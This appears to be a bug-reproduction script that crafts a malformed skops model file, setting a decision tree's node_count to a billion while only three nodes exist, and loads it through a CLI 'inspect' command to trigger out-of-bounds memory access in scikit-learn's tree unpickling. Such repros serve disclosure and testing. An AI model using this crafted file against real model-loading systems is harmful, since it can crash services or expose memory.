"""A skops DecisionTree whose Tree says node_count=10**9 but holds 3 nodes: scikit-learn's
Tree.__setstate__ keeps node_count unchecked, and tree.children_left then views 10**9 nodes
of a 3-node allocation. Run: python repro/skops_tree_node_count.py [N]"""
import subprocess
import sys

import numpy as np
import skops.io as sio
from _skops_util import find, pack, unpack
from sklearn.tree import DecisionTreeClassifier

n = int(sys.argv[1]) if len(sys.argv) > 1 else 10**9
X = np.array([[0.0], [1.0], [2.0], [3.0]])
schema, files = unpack(sio.dumps(DecisionTreeClassifier(max_depth=1).fit(X, [0, 0, 1, 1])))
(tree,) = find(schema, lambda d: d.get("__loader__") == "TreeNode")
tree["content"]["content"]["node_count"]["content"] = str(n)
path = pack("/tmp/node_count.skops", schema, files)
code = f"from veritas_dsl.cli import main; raise SystemExit(main(['inspect', {str(path)!r}]))"
child = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True)
print("exit", child.returncode)
print(child.stdout[-1500:], child.stderr[-1500:])
